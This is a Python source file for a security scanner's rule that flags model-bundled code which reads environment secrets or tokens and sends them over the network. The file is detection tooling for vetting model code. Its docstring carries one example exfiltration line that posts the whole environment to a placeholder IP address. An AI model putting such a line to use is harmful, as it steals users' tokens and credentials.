"""Python code that comes with the model takes what is secret to the user, and uses the network.

What it finds:
    A file that, when it is imported, constructed or used, both takes secrets (the whole environment, private keys and
    credentials of well-known places, the token of the hub) and uses the network; or that puts a secret variable of the
    environment (``HF_TOKEN``) into an address or a body that it sends. Headers, by which one's own service is asked, do not
    count. Cells of a notebook, which people run one after the other, are read as one text: there a private file or the whole
    environment must itself go into what is sent, or a private file be read besides. A call that is itself given a private file or the
    whole environment, and sends it, counts in any function, called or not.

Why it matters:
    Tokens and keys are what code in a model is most often after: with them others publish in your name.

Example:
    ``requests.post('http://198.51.100.1/', json=dict(os.environ))`` in ``__init__``.

Remedy:
    Do not run this code. Where it has run, withdraw the tokens and keys of that machine.

What it cannot see:
    Secrets in places that are not well known; names that only come about while the code runs. What one file takes and another sends is
    followed through functions, methods and constants that files import from each other, and not through what objects hold.

References:
    MITRE ATT&CK T1552, T1567 ; CWE-200, CWE-506.
"""

from __future__ import annotations

from collections.abc import Iterator

from openvet.checks._check import Context
from openvet.checks.python._handed import sent_between
from openvet.checks.python._programs import RUN
from openvet.checks.python._uses import uses
from openvet.core.finding import Finding
from openvet.core.location import Location
from openvet.core.pattern import pattern
from openvet.core.rule import Confidence, Rule, Severity
from openvet.formats._addresses import SERVICES
from openvet.formats._python_ends import ends
from openvet.formats._python_names import capabilities
from openvet.formats._python_secrets import ONE_VARIABLE
from openvet.formats.python import PythonSource, PythonUse

RULE = Rule(
    id="python/sends-secrets",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    since="0.1.0",
    cwe=(200, 506),
    needs=("python", "notebook"),
)

_WHEN = {"import": "when it is imported", "construction": "when one of its classes is constructed or loaded",
         "inference": "when the model is used"}  # fmt: skip
_MOST = 20
_OF_ONE = pattern(r"^takes ([A-Z0-9]{2,30})_\w{1,60} of the environment$")
_HOST = pattern(r"""^['"]https://(?:[\w-]{1,40}\.){0,3}([\w-]{2,40})\.(?:com|ai|co|io|org|net|dev)(?:[/:?'"]|$)""")
#: Services that are called otherwise than their keys.
_CALLED = {"hf": "huggingface", "gh": "github"}
_REMEDY = "Do not run this code; where it has run, withdraw the tokens and keys of that machine."


def _is_sent(use: PythonUse, program: PythonSource) -> bool:
    """Whether a call that sends is itself given a private file or the whole environment: that has no honest use at any time."""
    sends = use.name.rpartition(".")[2] in ends().senders or capabilities().of(use.name) == "network"
    notebook = bool(program.location.pointer)  # whose cells are read together
    return use.capability == "secret" and sends and not notebook and not ONE_VARIABLE.search(use.detail)


def _is_issuers(use: PythonUse, program: PythonSource) -> bool:
    """Whether one key of the environment goes to the service whose name it bears: ``OPENAI_API_KEY`` to ``api.openai.com``."""
    if (found := _OF_ONE.search(use.detail)) is None:
        return False
    asked = [
        each for each in program.uses if each.capability == "network" and (each.line, each.name) == (use.line, use.name)
    ]
    hosts = [_HOST.match(each.detail) for each in asked]
    word = found[1].lower()
    wanted = _CALLED.get(word, word)
    return bool(hosts) and all(host and host[1] == wanted and SERVICES.search(host.group()) for host in hosts)


def check(ctx: Context) -> Iterator[Finding]:
    """One finding for each secret that is taken in a file that uses the network."""
    yield from ctx.anomalies(
        "Do not run this notebook; where it has run, withdraw the tokens and keys of that machine."
    )
    read = [
        (program, use)
        for program, use, _ in ctx.inventory.once(uses)
        if use.when in _WHEN or use.when == RUN or _is_sent(use, program)
    ]
    senders = {program.location.place for program, use in read if use.capability == "network"}
    told: set[tuple[str, str]] = set()
    for location, what in ctx.inventory.once(sent_between):
        if (location.place, what) not in told:
            told.add((location.place, what))
            yield ctx.finding(
                location, f"{what} and sends it, by functions of several files", _REMEDY, evidence={"detail": what}
            )
    for program, use in read:
        where = (program.location.place, use.detail)
        if use.capability != "secret" or where in told or len(told) >= _MOST or _is_issuers(use, program):
            continue
        if where[0] not in senders and not _is_sent(use, program):
            continue
        told.add(where)
        yield ctx.finding(
            Location(program.location.place, line=use.line, pointer=program.location.pointer),
            f"{use.detail} and {'sends it' if _is_sent(use, program) else 'uses the network'} {_WHEN.get(use.when, 'when it is called')}",
            _REMEDY,
            evidence={"callable": use.name, "when": use.when, "detail": use.detail},
        )
